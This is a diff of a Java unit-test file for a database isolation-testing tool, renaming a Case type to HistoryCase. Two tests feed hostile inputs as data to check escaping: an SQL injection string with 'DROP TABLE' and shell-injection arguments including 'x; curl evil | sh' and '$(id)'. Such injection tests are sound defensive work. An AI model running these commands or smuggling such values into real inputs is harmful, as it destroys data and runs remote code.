@@ -11,11 +11,11 @@ import moirai.history.HistoryBuilder;
 import moirai.history.RunHeader;
 import moirai.history.level.IsolationLevel;
 import moirai.history.level.Phenomenon;
-import moirai.runs.cases.Case;
 import moirai.runs.cases.CaseFormat;
 import moirai.runs.cases.CaseText;
 import moirai.runs.cases.Cases;
 import moirai.runs.cases.Claim;
+import moirai.runs.cases.HistoryCase;
 import moirai.runs.cases.Origin;
 import moirai.testing.Golden;
 import org.junit.jupiter.api.Test;
@@ -28,7 +28,7 @@ class CaseFilesTest {
 
     @Test
     void everythingStandsInAFolderThatTheFingerprintNames() throws IOException {
-        Case skew = Cases.writeSkew();
+        HistoryCase skew = Cases.writeSkew();
 
         Path folder = CaseFiles.write(parent, skew);
 
@@ -58,7 +58,7 @@ class CaseFilesTest {
 
     @Test
     void noTextOfACaseBecomesAStatement() throws IOException {
-        Case skew = Cases.writeSkew();
+        HistoryCase skew = Cases.writeSkew();
         String evil = "x'; DROP TABLE a; -- */ \\u000a \" \n\\! sh";
         RunHeader header = skew.header();
         var builder = new HistoryBuilder(
@@ -66,7 +66,7 @@ class CaseFilesTest {
         for (int txn = 0; txn < skew.history().txnCount(); txn++) {
             builder.add(skew.history().txn(txn));
         }
-        Case found = new Case(skew.claim(), builder.build(), skew.origin(), List.of());
+        HistoryCase found = new HistoryCase(skew.claim(), builder.build(), skew.origin(), List.of());
 
         Path folder = CaseFiles.write(parent, found);
 
@@ -81,10 +81,10 @@ class CaseFilesTest {
     /** A run may expect more, or less, than the level that its case breaks. */
     @Test
     void theLevelThatIsBrokenIsThatOfTheClaim() throws IOException {
-        Case run = lostUpdate(IsolationLevel.SERIALIZABLE);
+        HistoryCase run = lostUpdate(IsolationLevel.SERIALIZABLE);
         var claim = new Claim.Forbidden(Phenomenon.LOST_UPDATE, IsolationLevel.SNAPSHOT_ISOLATION);
 
-        Path folder = CaseFiles.write(parent, new Case(claim, run.history(), run.origin(), List.of()));
+        Path folder = CaseFiles.write(parent, new HistoryCase(claim, run.history(), run.origin(), List.of()));
 
         assertThat(Files.readString(folder.resolve("sessions.sql")))
                 .startsWith("-- lost-update: what snapshot-isolation must not show.\n")
@@ -94,7 +94,7 @@ class CaseFilesTest {
                 .contains(" * lost-update, which snapshot-isolation forbids, on PostgreSQL 18.6 at read-committed.");
     }
 
-    private static Case lostUpdate(IsolationLevel expect) {
+    private static HistoryCase lostUpdate(IsolationLevel expect) {
         return Cases.of(Phenomenon.LOST_UPDATE, "read-committed", expect, """
                 T0 s0 ok @1000..2000 r1=[] a1=1
                 T1 s1 ok @3000..4000 r1=[] a1=2
@@ -125,7 +125,7 @@ class CaseFilesTest {
 
     @Test
     void whatStandsBesideACaseIsLeftAloneInFoldersThatAreNotItsOwn() throws IOException {
-        Case skew = Cases.writeSkew();
+        HistoryCase skew = Cases.writeSkew();
         Path foreign = Files.createDirectories(parent.resolve("notes"));
         Files.writeString(foreign.resolve("case.txt"), "mine");
         Path own = CaseFiles.write(parent, skew);
@@ -145,11 +145,11 @@ class CaseFilesTest {
 
     @Test
     void aShellTakesTheCommandOfACaseForArguments() {
-        Case skew = Cases.writeSkew();
+        HistoryCase skew = Cases.writeSkew();
         List<String> argv = List.of("run", "--db", "postgres", "--name", "x; curl evil | sh", "it's", "$(id)");
         var origin = new Origin("postgres", "", argv, 2, List.of());
 
-        assertThat(CaseText.of(new Case(skew.claim(), skew.history(), origin, List.of())))
+        assertThat(CaseText.of(new HistoryCase(skew.claim(), skew.history(), origin, List.of())))
                 .contains("\nrun        moirai run --db postgres --name 'x; curl evil | sh' 'it'\\''s' '$(id)'\n");
     }
 }
